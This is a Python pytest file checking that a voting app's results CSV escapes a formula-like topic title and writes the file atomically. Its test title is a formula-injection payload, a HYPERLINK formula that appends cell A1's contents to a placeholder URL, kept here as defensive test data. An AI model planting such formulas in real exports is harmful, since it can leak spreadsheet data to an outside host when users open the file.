"""The vote results CSV keeps a topic's formula-like title as text, and writes its file atomically."""

from __future__ import annotations

import csv
import io

import pytest

from pipeline.core.cells import unescape_cell
from pipeline.core.fileio import OutputError
from store import add_topic, cast_ballot, close_session, open_session, results_to_csv
from tests.helpers.db import resident

TITLE = '=HYPERLINK("http://x"&A1,"幼儿园")'


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_a_formula_like_title_stays_text(store, compound, planner, tmp_path):
    vote = open_session(store, compound, planner, "s", dots=3, ballot_mode="anonymous")
    topic = add_topic(store, vote.id, planner, TITLE).id
    cast_ballot(store, vote.id, resident(), {topic: 3})
    results = close_session(store, vote.id, planner)
    text = results_to_csv(results, tmp_path / "results.csv")
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["title"] == "'" + TITLE and unescape_cell(row["title"]) == TITLE
    assert (tmp_path / "results.csv").read_bytes().decode("utf-8-sig") == text
    with pytest.raises(OutputError, match="is a folder"):
        results_to_csv(results, tmp_path)
